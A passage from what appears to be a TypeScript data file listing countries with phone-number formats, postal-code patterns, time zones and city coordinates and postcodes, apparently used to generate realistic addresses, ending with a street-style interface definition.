    cc: "SK", name: "Slovakia", w: 0.2, lang: "cs", st: "sk", tz: "Europe/Bratislava", adj: "Slovak",
    ph: "421|9|4,4/7=3,4|1|||2", pc: "### ##", ad: "eu",
    cities: `Bratislava|48.1486|17.1077|811 01/811 02|2
Košice|48.7164|21.2611|040 01|55`,
  },
  {
    cc: "EE", name: "Estonia", w: 0.2, lang: "baltic", st: "ee", tz: "Europe/Tallinn", adj: "Estonian",
    ph: "372|7|3,4|0|||6", pc: "#####", ad: "eu",
    cities: `Tallinn|59.4370|24.7536|10111/10130/10146
Tartu|58.3780|26.7290|51003`,
  },
  {
    cc: "LV", name: "Latvia", w: 0.15, lang: "baltic", st: "lv", tz: "Europe/Riga", adj: "Latvian",
    ph: "371|8|2,3,3|0|||67", pc: "LV-####", ad: "eu",
    cities: `Rīga|56.9496|24.1052|LV-1050/LV-1010
Jūrmala|56.9680|23.7704|LV-2015`,
  },
  {
    cc: "LT", name: "Lithuania", w: 0.15, lang: "baltic", st: "lt", tz: "Europe/Vilnius", adj: "Lithuanian",
    ph: "370|8|3,4/6=3,3|1|||5", pc: "LT-#####", ad: "eu",
    cities: `Vilnius|54.6872|25.2797|LT-01100/LT-01108|5
Kaunas|54.8985|23.9036|LT-44280|37
Klaipėda|55.7033|21.1443|LT-91246|46`,
  },
  {
    cc: "CY", name: "Cyprus", w: 0.4, lang: "el", lang2: "en", st: "en", tz: "Asia/Nicosia", adj: "Cypriot",
    ph: "357|8|6|1|||25", pc: "####", ad: "eu",
    cities: `Limassol|34.7071|33.0226|3035/3036/4520|25
Paphos|34.7754|32.4245|8010/8045|26
Ayia Napa|34.9885|34.0119|5330|23
Larnaca|34.9229|33.6233|6023/6046|24
Nicosia|35.1856|33.3823|1010/1011|22`,
  },
  {
    cc: "MT", name: "Malta", w: 0.3, lang: "en", st: "en", tz: "Europe/Malta", adj: "Mediterranean",
    ph: "356|8|4,4|0|||21", pc: "LLL ####", ad: "gb",
    cities: `Valletta|35.8989|14.5146|VLT 1010/VLT 1111
St. Julian's|35.9185|14.4883|STJ 3140
Sliema|35.9122|14.5042|SLM 1021
Mdina|35.8858|14.4031|MDN 1010`,
  },
  {
    cc: "MC", name: "Monaco", w: 0.1, lang: "fr", st: "fr", tz: "Europe/Monaco", adj: "French",
    ph: "377|8|2,2,2,2|0|||93", pc: "#####", ad: "eu",
    cities: `Monaco|43.7384|7.4246|98000`,
  },
  {
    cc: "LU", name: "Luxembourg", w: 0.1, lang: "fr", lang2: "de", st: "fr", tz: "Europe/Luxembourg", adj: "French",
    ph: "352|8|2,2,2,2|0|||2", pc: "L-####", ad: "eu",
    cities: `Luxembourg|49.6116|6.1319|L-1128/L-1140/L-2449
Vianden|49.9350|6.2079|L-9410`,
  },
  {
    cc: "ME", name: "Montenegro", w: 0.2, lang: "hr", st: "rs", tz: "Europe/Podgorica", adj: "Balkan",
    ph: "382|8|2,3,3|0|||32", pc: "#####", ad: "eu",
    cities: `Kotor|42.4247|18.7712|85330|32
Budva|42.2864|18.8400|85310|33
Podgorica|42.4304|19.2594|81000|20`,
  },
  {
    cc: "AL", name: "Albania", w: 0.2, lang: "sq", st: "sq", tz: "Europe/Tirane", adj: "Albanian",
    ph: "355|8|3,4/6=3,3|1|||4", pc: "####", ad: "eu",
    cities: `Tirana|41.3275|19.8187|1001|4
Sarandë|39.8753|20.0052|9701|85
Berat|40.7058|19.9522|5001|32`,
  },
  {
    cc: "GE", name: "Georgia", w: 0.25, lang: "ka", st: "ka", tz: "Asia/Tbilisi", adj: "Georgian",
    ph: "995|9|3,2,2,2|0|||32", pc: "####", ad: "eu",
    cities: `Tbilisi|41.7151|44.8271|0105/0108|32
Batumi|41.6168|41.6367|6000|422
Kutaisi|42.2679|42.6940|4600|431`,
  },
  {
    cc: "RU", name: "Russia", w: 0.8, lang: "ru", st: "ru", tz: "Europe/Moscow", adj: "Russian",
    ph: "7|10|3,2,2/6=2,2,2|1|-||495", pc: "######", ad: "eu",
    cities: `Moscow|55.7558|37.6173|101000/103009/109012/125009|495
Saint Petersburg|59.9343|30.3351|190000/191011/191186|812
Kazan|55.7887|49.1221|420111|843
Sochi|43.6028|39.7342|354000|862
Kaliningrad|54.7104|20.4522|236000|4012||Europe/Kaliningrad
Yekaterinburg|56.8389|60.6057|620014|343||Asia/Yekaterinburg
Vladivostok|43.1155|131.8855|690091|423||Asia/Vladivostok`,
  },
  {
    cc: "UA", name: "Ukraine", w: 0.3, lang: "uk", st: "ua", tz: "Europe/Kyiv", adj: "Ukrainian",
    ph: "380|9|3,2,2/6=2,2,2|1|||44", pc: "#####", ad: "eu",
    cities: `Kyiv|50.4501|30.5234|01001/01004/01030|44
Lviv|49.8397|24.0297|79000/79008|32
Odesa|46.4825|30.7233|65012/65014|48`,
  },
  {
    cc: "CA", name: "Canada", w: 1.8, lang: "en", st: "en", tz: "America/Toronto", adj: "Canadian",
    ph: "1|10|3,4|1|-|-|", pc: "L#L #L#", ad: "us",
    cities: `Toronto|43.6532|-79.3832|M5V/M5H/M5B/M5J/M4W|416|ON
Vancouver|49.2827|-123.1207|V6B/V6C/V6E/V6Z|604|BC|America/Vancouver
Montréal|45.5017|-73.5673|H2X/H3B/H2Y/H3A|514|QC||fr
Québec|46.8139|-71.2080|G1R/G1K|418|QC||fr
Niagara Falls|43.0896|-79.0849|L2E/L2G|905|ON
Banff|51.1784|-115.5708|T1L|403|AB|America/Edmonton
Calgary|51.0447|-114.0719|T2P/T2G/T2R|403|AB|America/Edmonton
Ottawa|45.4215|-75.6972|K1P/K1N/K1R|613|ON
Victoria|48.4284|-123.3656|V8W/V8V|250|BC|America/Vancouver
Whistler|50.1163|-122.9574|V8E|604|BC|America/Vancouver
Halifax|44.6488|-63.5752|B3J/B3H|902|NS|America/Halifax
Edmonton|53.5461|-113.4938|T5J/T5K|780|AB|America/Edmonton
Winnipeg|49.8951|-97.1384|R3C/R3B|204|MB|America/Winnipeg
Jasper|52.8737|-118.0814|T0E|780|AB|America/Edmonton
Mont-Tremblant|46.1185|-74.5962|J8E|819|QC||fr`,
  },
  {
    cc: "MX", name: "Mexico", w: 2.5, lang: "es", st: "mx", tz: "America/Mexico_City", adj: "Mexican",
    ph: "52|10|4,4/7=3,4|1|||55", pc: "#####", ad: "mx",
    cities: `Ciudad de México|19.4326|-99.1332|06000/06500/06600/06700/11560|55|CDMX
Cancún|21.1619|-86.8515|77500/77524|998|Q.R.|America/Cancun
Playa del Carmen|20.6296|-87.0739|77710|984|Q.R.|America/Cancun
Tulum|20.2114|-87.4654|77760|984|Q.R.|America/Cancun
Puerto Vallarta|20.6534|-105.2253|48300/48380|322|Jal.
Guadalajara|20.6597|-103.3496|44100/44160|33|Jal.
Oaxaca de Juárez|17.0732|-96.7266|68000/68050|951|Oax.
Cabo San Lucas|22.8905|-109.9167|23450|624|B.C.S.|America/Mazatlan
San Miguel de Allende|20.9144|-100.7452|37700|415|Gto.
Mérida|20.9674|-89.5926|97000|999|Yuc.
Monterrey|25.6866|-100.3161|64000|81|N.L.|America/Monterrey
Acapulco|16.8531|-99.8237|39300|744|Gro.
Puebla|19.0414|-98.2063|72000|222|Pue.
Mazatlán|23.2494|-106.4111|82000|669|Sin.|America/Mazatlan
Guanajuato|21.0190|-101.2574|36000|473|Gto.`,
  },
  {
    cc: "BR", name: "Brazil", w: 1.8, lang: "pt", st: "br", tz: "America/Sao_Paulo", adj: "Brazilian",
    ph: "55|10|4,4|1|-||11", pc: "#####-###", ad: "br",
    cities: `Rio de Janeiro|-22.9068|-43.1729|22010/22021/22070/22410|21|RJ
São Paulo|-23.5505|-46.6333|01001/01310/01415/04538|11|SP
Salvador|-12.9777|-38.5016|40020/40140|71|BA|America/Bahia
Florianópolis|-27.5954|-48.5480|88010/88015|48|SC
Foz do Iguaçu|-25.5163|-54.5854|85851|45|PR
Fortaleza|-3.7319|-38.5267|60060/60165|85|CE|America/Fortaleza
Recife|-8.0476|-34.8770|50030/51020|81|PE|America/Recife
Brasília|-15.7975|-47.8919|70040/70070|61|DF
Manaus|-3.1190|-60.0217|69005|92|AM|America/Manaus
Gramado|-29.3788|-50.8765|95670|54|RS
Armação dos Búzios|-22.7469|-41.8817|28950|22|RJ
Paraty|-23.2178|-44.7131|23970|24|RJ
Belo Horizonte|-19.9167|-43.9345|30130/30140|31|MG
Curitiba|-25.4284|-49.2733|80010/80020|41|PR
Natal|-5.7945|-35.2110|59010/59090|84|RN|America/Fortaleza`,
  },
  {
    cc: "AR", name: "Argentina", w: 0.8, lang: "es", st: "ar", tz: "America/Argentina/Buenos_Aires", adj: "Argentinian",
    ph: "54|10|4,4/7=3,4/6=6|1|-||11", pc: "L####LLL", ad: "eu",
    cities: `Buenos Aires|-34.6037|-58.3816|C1001/C1059/C1425/C1414|11
Mendoza|-32.8895|-68.8458|M5500|261||America/Argentina/Mendoza
San Carlos de Bariloche|-41.1335|-71.3103|R8400|294||America/Argentina/Salta
Córdoba|-31.4201|-64.1888|X5000|351||America/Argentina/Cordoba
Salta|-24.7821|-65.4232|A4400|387||America/Argentina/Salta
Ushuaia|-54.8019|-68.3030|V9410|2901||America/Argentina/Ushuaia
Puerto Iguazú|-25.5972|-54.5786|N3370|3757||America/Argentina/Cordoba
El Calafate|-50.3379|-72.2648|Z9405|2902||America/Argentina/Rio_Gallegos`,
  },
  {
    cc: "CL", name: "Chile", w: 0.4, lang: "es", st: "esla", tz: "America/Santiago", adj: "Chilean",
    ph: "56|9|4,4/7=3,4|1|||2", pc: "#######", ad: "eu",
    cities: `Santiago|-33.4489|-70.6693|8320000/7500000/7550000|2
Valparaíso|-33.0472|-71.6127|2340000|32
San Pedro de Atacama|-22.9087|-68.1997|1410000|55
Puerto Natales|-51.7236|-72.5064|6160000|61||America/Punta_Arenas`,
  },
  {
    cc: "PE", name: "Peru", w: 0.5, lang: "es", st: "esla", tz: "America/Lima", adj: "Peruvian",
    ph: "51|8|3,4/6=3,3|1|||1", pc: "#####", ad: "eu",
    cities: `Lima|-12.0464|-77.0428|15001/15074/15047|1
Cusco|-13.5319|-71.9675|08001/08002|84
Arequipa|-16.4090|-71.5375|04001|54
Aguas Calientes|-13.1547|-72.5254|08681|84
Puno|-15.8402|-70.0219|21001|51`,
  },
  {
    cc: "CO", name: "Colombia", w: 0.6, lang: "es", st: "esla", tz: "America/Bogota", adj: "Colombian",
    ph: "57|10|3,4|1|||601", pc: "######", ad: "eu",
    cities: `Cartagena|10.3910|-75.4794|130001|605
Bogotá|4.7110|-74.0721|110111/110221/110311|601
Medellín|6.2442|-75.5812|050001/050021|604
Cali|3.4516|-76.5320|760001|602
Santa Marta|11.2408|-74.1990|470001|605`,
  },
  {
    cc: "CR", name: "Costa Rica", w: 0.4, lang: "es", st: "esla", tz: "America/Costa_Rica", adj: "Costa Rican",
    ph: "506|8|4,4|0|||2", pc: "#####", ad: "eu",
    cities: `San José|9.9281|-84.0907|10101
Tamarindo|10.2993|-85.8371|50309
La Fortuna|10.4678|-84.6427|21007
Quepos|9.4312|-84.1617|60601
Puerto Viejo de Talamanca|9.6564|-82.7536|70403`,
  },
  {
    cc: "CU", name: "Cuba", w: 0.3, lang: "es", st: "esla", tz: "America/Havana", adj: "Cuban",
    ph: "53|8|3,4/6=3,3|1|||7", pc: "#####", ad: "eu",
    cities: `La Habana|23.1136|-82.3666|10100|7
Varadero|23.1539|-81.2514|42200|45
Trinidad|21.8022|-79.9847|62600|41
Santiago de Cuba|20.0247|-75.8219|90100|22`,
  },
  {
    cc: "DO", name: "Dominican Republic", w: 0.5, lang: "es", st: "esla", tz: "America/Santo_Domingo", adj: "Dominican",
    ph: "1|10|3,4|1|-|-|809", pc: "#####", ad: "eu",
    cities: `Punta Cana|18.5601|-68.3725|23000|809
Santo Domingo|18.4861|-69.9312|10205|809
Puerto Plata|19.7934|-70.6884|57000|809
La Romana|18.4273|-68.9728|22000|809
Las Terrenas|19.3112|-69.5428|32000|809`,
  },
  {
    cc: "PA", name: "Panama", w: 0.2, lang: "es", st: "esla", tz: "America/Panama", adj: "Latin American",
    ph: "507|7|3,4|0|-||2", pc: "", ad: "none",
    cities: `Ciudad de Panamá|8.9824|-79.5199
Bocas del Toro|9.3403|-82.2419`,
  },
  {
    cc: "EC", name: "Ecuador", w: 0.2, lang: "es", st: "esla", tz: "America/Guayaquil", adj: "Ecuadorian",
    ph: "593|8|3,4|1|||2", pc: "######", ad: "eu",
    cities: `Quito|-0.1807|-78.4678|170150|2
Guayaquil|-2.1709|-79.9224|090313|4
Cuenca|-2.9001|-79.0059|010101|7
Puerto Ayora|-0.7432|-90.3132|200350|5||Pacific/Galapagos`,
  },
  {
    cc: "UY", name: "Uruguay", w: 0.2, lang: "es", st: "esla", tz: "America/Montevideo", adj: "Uruguayan",
    ph: "598|8|4,4|0|||2", pc: "#####", ad: "eu",
    cities: `Montevideo|-34.9011|-56.1645|11000/11100|2
Punta del Este|-34.9627|-54.9451|20100|42
Colonia del Sacramento|-34.4626|-57.8398|70000|45`,
  },
  {
    cc: "JM", name: "Jamaica", w: 0.2, lang: "en", st: "en", tz: "America/Jamaica", adj: "Jamaican",
    ph: "1|10|3,4|1|-|-|876", pc: "", ad: "none",
    cities: `Montego Bay|18.4762|-77.8939
Negril|18.2683|-78.3472
Ocho Rios|18.4074|-77.1031
Kingston|17.9714|-76.7922`,
  },
  {
    cc: "BS", name: "Bahamas", w: 0.15, lang: "en", st: "en", tz: "America/Nassau", adj: "Caribbean",
    ph: "1|10|3,4|1|-|-|242", pc: "", ad: "none",
    cities: `Nassau|25.0443|-77.3504
Freeport|26.5333|-78.7000`,
  },
  {
    cc: "JP", name: "Japan", w: 2.5, lang: "ja", st: "jp", tz: "Asia/Tokyo", adj: "Japanese",
    ph: "81|9|4,4/7=3,4/6=2,4/5=1,4|1|-|-|3", pc: "###-####", ad: "gb",
    cities: `Tokyo|35.6762|139.6503|100/104/106/150/160/110|3
Kyoto|35.0116|135.7681|600/604/605|75
Osaka|34.6937|135.5023|530/542/556|6
Sapporo|43.0618|141.3545|060/064|11
Fukuoka|33.5904|130.4017|810/812|92
Hiroshima|34.3853|132.4553|730|82
Nara|34.6851|135.8048|630|742
Hakone|35.2324|139.1069|250-0311/250-0408|460
Naha|26.2124|127.6809|900|98
Yokohama|35.4437|139.6380|220/231|45
Kanazawa|36.5613|136.6562|920|76
Nikko|36.7199|139.6982|321-1401|288
Takayama|36.1461|137.2522|506|577
Nagoya|35.1815|136.9066|450/460|52`,
  },
  {
    cc: "CN", name: "China", w: 1.5, lang: "zh", st: "zh", tz: "Asia/Shanghai", adj: "Chinese",
    ph: "86|10|4,4/7=3,4|1|||10", pc: "######", ad: "gb",
    cities: `Shanghai|31.2304|121.4737|200001/200002/200040|21
Beijing|39.9042|116.4074|100005/100006/100010|10
Guangzhou|23.1291|113.2644|510030|20
Shenzhen|22.5431|114.0579|518000|755
Xi'an|34.3416|108.9398|710001|29
Chengdu|30.5728|104.0668|610000|28
Hangzhou|30.2741|120.1551|310000|571
Guilin|25.2736|110.2900|541000|773
Sanya|18.2528|109.5119|572000|898
Suzhou|31.2989|120.5853|215000|512
Lijiang|26.8721|100.2299|674100|888`,
  },
  {
    cc: "KR", name: "South Korea", w: 0.8, lang: "ko", st: "ko", tz: "Asia/Seoul", adj: "Korean",
    ph: "82|9|4,4/7=3,4|1|-|-|2", pc: "#####", ad: "gb",
    cities: `Seoul|37.5665|126.9780|04524/04536/06164/03142|2
Busan|35.1796|129.0756|48058/48094|51
Jeju|33.4996|126.5312|63122/63309|64
Gyeongju|35.8562|129.2247|38116|54
Incheon|37.4563|126.7052|22382|32`,
  },
  {
    cc: "TH", name: "Thailand", w: 2.2, lang: "th", st: "th", tz: "Asia/Bangkok", adj: "Thai",
    ph: "66|8|3,4/6=3,3|1|||2", pc: "#####", ad: "gb",
    cities: `Bangkok|13.7563|100.5018|10110/10200/10330/10500|2
Phuket|7.8804|98.3923|83000|76
Chiang Mai|18.7883|98.9853|50100/50200/50300|53
Pattaya|12.9236|100.8825|20150|38
Patong|7.8961|98.2966|83150|76
Ko Samui|9.5120|100.0136|84320|77
Krabi|8.0863|98.9063|81000|75
Ao Nang|8.0324|98.8236|81180|75
Hua Hin|12.5684|99.9577|77110|32
Chiang Rai|19.9105|99.8406|57000|53
Ayutthaya|14.3532|100.5689|13000|35
Ko Phangan|9.7381|100.0134|84280|77`,
  },
  {
    cc: "VN", name: "Vietnam", w: 1.2, lang: "vi", st: "vi", tz: "Asia/Ho_Chi_Minh", adj: "Vietnamese",
    ph: "84|10|4,4/7=3,4|1|||28", pc: "######", ad: "gb",
    cities: `Ho Chi Minh City|10.8231|106.6297|700000|28
Hanoi|21.0278|105.8342|100000|24
Đà Nẵng|16.0544|108.2022|550000|236
Hội An|15.8801|108.3380|560000|235
Nha Trang|12.2388|109.1967|650000|258
Phú Quốc|10.2899|103.9840|920000|297
Hạ Long|20.9517|107.0809|200000|203
Huế|16.4637|107.5909|530000|234`,
  },
  {
    cc: "ID", name: "Indonesia", w: 1.5, lang: "id", st: "id", tz: "Asia/Jakarta", adj: "Indonesian",
    ph: "62|10|4,4/7=3,4|1|||21", pc: "#####", ad: "gb",
    cities: `Denpasar|-8.6705|115.2126|80113/80234|361||Asia/Makassar
Jakarta|-6.2088|106.8456|10110/10220/10310/12190|21
Ubud|-8.5069|115.2625|80571|361||Asia/Makassar
Kuta|-8.7222|115.1723|80361|361||Asia/Makassar
Seminyak|-8.6913|115.1682|80361|361||Asia/Makassar
Yogyakarta|-7.7956|110.3695|55271/55213|274
Bandung|-6.9175|107.6191|40111/40115|22
Labuan Bajo|-8.4964|119.8877|86554|385||Asia/Makassar
Gili Trawangan|-8.3515|116.0385|83352|370||Asia/Makassar`,
  },
  {
    cc: "MY", name: "Malaysia", w: 0.8, lang: "id", lang2: "zh", st: "my", tz: "Asia/Kuala_Lumpur", adj: "Malaysian",
    ph: "60|9|4,4/7=3,4|1||-|3", pc: "#####", ad: "eu",
    cities: `Kuala Lumpur|3.1390|101.6869|50088/50200/50250/50450|3
George Town|5.4141|100.3288|10200/10300|4
Langkawi|6.3500|99.8000|07000|4
Melaka|2.1896|102.2501|75000/75200|6
Kota Kinabalu|5.9804|116.0735|88000|88||Asia/Kuching`,
  },
  {
    cc: "SG", name: "Singapore", w: 0.6, lang: "en", lang2: "zh", st: "en", tz: "Asia/Singapore", adj: "Singaporean",
    ph: "65|8|4,4|0|||6", pc: "######", ad: "gb",
    cities: `Singapore|1.3521|103.8198|018956/049315/068809/179097/238858/188396|6`,
  },
  {
    cc: "PH", name: "Philippines", w: 0.6, lang: "tl", st: "en", tz: "Asia/Manila", adj: "Filipino",
    ph: "63|9|4,4/7=3,4|1|||2", pc: "####", ad: "eu",
    cities: `Manila|14.5995|120.9842|1000/1004/1007|2
Makati|14.5547|121.0244|1200/1226|2
Cebu City|10.3157|123.8854|6000|32
El Nido|11.1956|119.4075|5313|48
Boracay|11.9674|121.9248|5608|36
Panglao|9.5795|123.7449|6340|38`,
  },
  {
    cc: "IN", name: "India", w: 1.5, lang: "hi", st: "in", tz: "Asia/Kolkata", adj: "Indian",
    ph: "91|10|4,4/7=3,4/6=3,3|1|||22", pc: "######", ad: "us",
    cities: `New Delhi|28.6139|77.2090|110001/110003/110037|11|Delhi
Mumbai|19.0760|72.8777|400001/400005/400050|22|Maharashtra
Jaipur|26.9124|75.7873|302001/302004|141|Rajasthan
Agra|27.1767|78.0081|282001|562|Uttar Pradesh
Panaji|15.4909|73.8278|403001|832|Goa
Calangute|15.5439|73.7553|403516|832|Goa
Bengaluru|12.9716|77.5946|560001/560025|80|Karnataka
Udaipur|24.5854|73.7125|313001|294|Rajasthan
Kochi|9.9312|76.2673|682001/682011|484|Kerala
Chennai|13.0827|80.2707|600002/600006|44|Tamil Nadu
Kolkata|22.5726|88.3639|700016/700071|33|West Bengal
Varanasi|25.3176|82.9739|221001|542|Uttar Pradesh
Rishikesh|30.0869|78.2676|249201|135|Uttarakhand
Hyderabad|17.3850|78.4867|500001/500034|40|Telangana`,
  },
  {
    cc: "LK", name: "Sri Lanka", w: 0.3, lang: "hi", st: "lk", tz: "Asia/Colombo", adj: "Sri Lankan",
    ph: "94|9|3,4|1|||11", pc: "#####", ad: "cp",
    cities: `Colombo|6.9271|79.8612|00100/00300|11
Kandy|7.2906|80.6337|20000|81
Galle|6.0535|80.2210|80000|91
Ella|6.8667|81.0466|90090|57`,
  },
  {
    cc: "NP", name: "Nepal", w: 0.2, lang: "hi", st: "np", tz: "Asia/Kathmandu", adj: "Nepalese",
    ph: "977|8|7/6=6|1||-|1", pc: "#####", ad: "eu",
    cities: `Kathmandu|27.7172|85.3240|44600|1
Pokhara|28.2096|83.9856|33700|61`,
  },
  {
    cc: "MV", name: "Maldives", w: 0.2, lang: "ar", lang2: "en", st: "en", tz: "Indian/Maldives", adj: "Asian",
    ph: "960|7|3,4|0|||3", pc: "#####", ad: "gb",
    cities: `Malé|4.1755|73.5093|20026
Maafushi|3.9432|73.4905|08090`,
  },
  {
    cc: "AE", name: "United Arab Emirates", w: 1.5, lang: "ar", lang2: "en", st: "ae", tz: "Asia/Dubai", adj: "Middle Eastern",
    ph: "971|8|3,4/6=3,3|1|||4", pc: "", ad: "none",
    cities: `Dubai|25.2048|55.2708||4
Abu Dhabi|24.4539|54.3773||2
Sharjah|25.3463|55.4209||6
Ras Al Khaimah|25.8007|55.9762||7`,
  },
  {
    cc: "QA", name: "Qatar", w: 0.2, lang: "ar", lang2: "en", st: "qa", tz: "Asia/Qatar", adj: "Middle Eastern",
    ph: "974|8|4,4|0|||44", pc: "", ad: "none",
    cities: `Doha|25.2854|51.5310`,
  },
  {
    cc: "SA", name: "Saudi Arabia", w: 0.5, lang: "ar", st: "sa", tz: "Asia/Riyadh", adj: "Middle Eastern",
    ph: "966|9|3,4|1|||11", pc: "#####", ad: "gb",
    cities: `Riyadh|24.7136|46.6753|12211/11564|11
Jeddah|21.4858|39.1925|21442/23511|12
AlUla|26.6085|37.9232|43544|14`,
  },
  {
    cc: "IL", name: "Israel", w: 0.4, lang: "he", lang2: "en", st: "he", tz: "Asia/Jerusalem", adj: "Israeli",
    ph: "972|8|3,4/6=3,3|1|-|-|3", pc: "#######", ad: "cp",
    cities: `Tel Aviv-Yafo|32.0853|34.7818|6100000/6578901|3
Jerusalem|31.7683|35.2137|9100000/9414201|2
Eilat|29.5577|34.9519|8800000|8
Haifa|32.7940|34.9896|3100000|4`,
  },
  {
    cc: "JO", name: "Jordan", w: 0.2, lang: "ar", st: "jo", tz: "Asia/Amman", adj: "Middle Eastern",
    ph: "962|8|3,4|1|||6", pc: "#####", ad: "cp",
    cities: `Amman|31.9454|35.9284|11181/11118|6
Wadi Musa|30.3222|35.4796|71810|3
Aqaba|29.5321|35.0063|77110|3`,
  },
  {
    cc: "HK", name: "Hong Kong", w: 0.6, lang: "zh", lang2: "en", st: "hk", tz: "Asia/Hong_Kong", adj: "Cantonese",
    ph: "852|8|4,4|0|||2", pc: "", ad: "none",
    cities: `Hong Kong|22.2830|114.1580||2
Kowloon|22.3186|114.1796||2`,
  },
  {
    cc: "TW", name: "Taiwan", w: 0.4, lang: "zh", st: "zh", tz: "Asia/Taipei", adj: "Taiwanese",
    ph: "886|9|4,4/7=3,4|1|||2", pc: "###", ad: "eu",
    cities: `Taipei|25.0330|121.5654|100/104/106|2
Kaohsiung|22.6273|120.3014|800/802|7
Tainan|22.9999|120.2270|700|6
Taichung|24.1477|120.6736|400/403|4
Hualien City|23.9872|121.6016|970|3`,
  },
  {
    cc: "KH", name: "Cambodia", w: 0.2, lang: "th", st: "kh", tz: "Asia/Phnom_Penh", adj: "Cambodian",
    ph: "855|8|3,3/7=3,4|1|||23", pc: "#####", ad: "gb",
    cities: `Siem Reap|13.3671|103.8448|17252|63
Phnom Penh|11.5564|104.9282|12207/12301|23`,
  },
  {
    cc: "EG", name: "Egypt", w: 0.8, lang: "ar", st: "eg", tz: "Africa/Cairo", adj: "Egyptian",
    ph: "20|9|4,4/7=3,4|1|||2", pc: "#####", ad: "cp",
    cities: `Cairo|30.0444|31.2357|11511/11311|2
Sharm El Sheikh|27.9158|34.3299|46619|69
Hurghada|27.2579|33.8116|84511|65
Luxor|25.6872|32.6396|85951|95
Giza|30.0131|31.2089|12511|2
Aswan|24.0889|32.8998|81511|97
Alexandria|31.2001|29.9187|21500|3
Dahab|28.5091|34.5136|46617|69`,
  },
  {
    cc: "MA", name: "Morocco", w: 0.9, lang: "ar", lang2: "fr", st: "ma", tz: "Africa/Casablanca", adj: "Moroccan",
    ph: "212|9|4,5|0|-||524", pc: "#####", ad: "eu",
    cities: `Marrakech|31.6295|-7.9811|40000/40040|524
Fès|34.0181|-5.0078|30000/30110|535
Casablanca|33.5731|-7.5898|20000/20250|522
Agadir|30.4278|-9.5981|80000|528
Essaouira|31.5085|-9.7595|44000|524
Chefchaouen|35.1688|-5.2636|91000|539
Tanger|35.7595|-5.8340|90000|539
Rabat|34.0209|-6.8416|10000|537
Merzouga|31.0802|-4.0134|52202|535`,
  },
  {
    cc: "TN", name: "Tunisia", w: 0.3, lang: "ar", lang2: "fr", st: "tn", tz: "Africa/Tunis", adj: "Tunisian",
    ph: "216|8|2,3,3|0|||71", pc: "####", ad: "eu",
    cities: `Tunis|36.8065|10.1815|1000/1001|71
Hammamet|36.4000|10.6167|8050|72
Sousse|35.8256|10.6084|4000|73
Houmt Souk|33.8759|10.8575|4180|75
Monastir|35.7643|10.8113|5000|73`,
  },
  {
    cc: "ZA", name: "South Africa", w: 0.7, lang: "za", st: "en", tz: "Africa/Johannesburg", adj: "South African",
    ph: "27|9|3,4|1|||21", pc: "####", ad: "cp",
    cities: `Cape Town|-33.9249|18.4241|8001/8005/8060|21
Johannesburg|-26.2041|28.0473|2001/2196/2193|11
Durban|-29.8587|31.0218|4001/4056|31
Stellenbosch|-33.9321|18.8602|7600|21
Knysna|-34.0363|23.0471|6570|44
Franschhoek|-33.9133|19.1169|7690|21
Hermanus|-34.4187|19.2345|7200|28
Pretoria|-25.7479|28.2293|0002/0083|12`,
  },
  {
    cc: "KE", name: "Kenya", w: 0.3, lang: "sw", st: "en", tz: "Africa/Nairobi", adj: "African",
    ph: "254|9|3,6|0|||712/722/733/20", pc: "#####", ad: "cp",
    cities: `Nairobi|-1.2921|36.8219|00100/00200
Mombasa|-4.0435|39.6682|80100
Diani Beach|-4.3167|39.5667|80401
Malindi|-3.2192|40.1169|80200
Narok|-1.0833|35.8667|20500`,
  },
  {
    cc: "TZ", name: "Tanzania", w: 0.25, lang: "sw", st: "en", tz: "Africa/Dar_es_Salaam", adj: "African",
    ph: "255|9|3,3,3|0|||754/713/777/24", pc: "#####", ad: "cp",
    cities: `Zanzibar|-6.1659|39.2026|71101
Dar es Salaam|-6.7924|39.2083|11101
Arusha|-3.3869|36.6830|23101
Nungwi|-5.7263|39.2983|73107`,
  },
  {
    cc: "MU", name: "Mauritius", w: 0.15, lang: "fr", lang2: "en", st: "en", tz: "Indian/Mauritius", adj: "Creole",
    ph: "230|7|3,4|0|||263/454/2", pc: "#####", ad: "cp",
    cities: `Grand Baie|-20.0182|57.5805|30510
Port Louis|-20.1609|57.5012|11302
Flic en Flac|-20.2747|57.3631|90503
Le Morne|-20.4569|57.3125|91501`,
  },
  {
    cc: "AU", name: "Australia", w: 1.8, lang: "en", st: "en", tz: "Australia/Sydney", adj: "Australian",
    ph: "61|9|4,4|1|||2", pc: "####", ad: "au",
    cities: `Sydney|-33.8688|151.2093|2000/2010/2011/2060|2|NSW
Melbourne|-37.8136|144.9631|3000/3004/3006/3141|3|VIC|Australia/Melbourne
Brisbane|-27.4698|153.0251|4000/4006/4101|7|QLD|Australia/Brisbane
Surfers Paradise|-28.0023|153.4145|4217|7|QLD|Australia/Brisbane
Cairns|-16.9186|145.7781|4870|7|QLD|Australia/Brisbane
Perth|-31.9505|115.8605|6000/6004|8|WA|Australia/Perth
Adelaide|-34.9285|138.6007|5000/5006|8|SA|Australia/Adelaide
Hobart|-42.8821|147.3272|7000|3|TAS|Australia/Hobart
Byron Bay|-28.6474|153.6020|2481|2|NSW
Darwin|-12.4634|130.8456|0800|8|NT|Australia/Darwin
Canberra|-35.2809|149.1300|2600/2601|2|ACT
Port Douglas|-16.4836|145.4653|4877|7|QLD|Australia/Brisbane
Noosa Heads|-26.3943|153.0901|4567|7|QLD|Australia/Brisbane
Alice Springs|-23.6980|133.8807|0870|8|NT|Australia/Darwin`,
  },
  {
    cc: "NZ", name: "New Zealand", w: 0.5, lang: "en", st: "en", tz: "Pacific/Auckland", adj: "New Zealand",
    ph: "64|8|3,4|1|||9", pc: "####", ad: "gb",
    cities: `Auckland|-36.8485|174.7633|1010/1011/1021|9
Queenstown|-45.0312|168.6626|9300|3
Wellington|-41.2865|174.7762|6011/6012|4
Christchurch|-43.5320|172.6306|8011/8013|3
Rotorua|-38.1368|176.2497|3010|7
Wanaka|-44.7032|169.1321|9305|3`,
  },
  {
    cc: "FJ", name: "Fiji", w: 0.1, lang: "en", st: "en", tz: "Pacific/Fiji", adj: "Pacific Rim",
    ph: "679|7|3,4|0|||6", pc: "", ad: "none",
    cities: `Nadi|-17.7765|177.4356
Suva|-18.1248|178.4501`,
  },
];

// ---------------------------------------------------------------------------------------------
// Streets. Style: nf = "12 High St", nl = "Bahnhofstraße 12", nc = "Via Roma, 12",
// tr = "Cumhuriyet Mah., Atatürk Cd. No:12", jp = "1 Chome-2-3 Ginza", nm = name only.
// ---------------------------------------------------------------------------------------------

interface StreetPool {
  style: "nf" | "nl" | "nc" | "tr" | "jp" | "nm";
  max: number;
  names: string[];
}

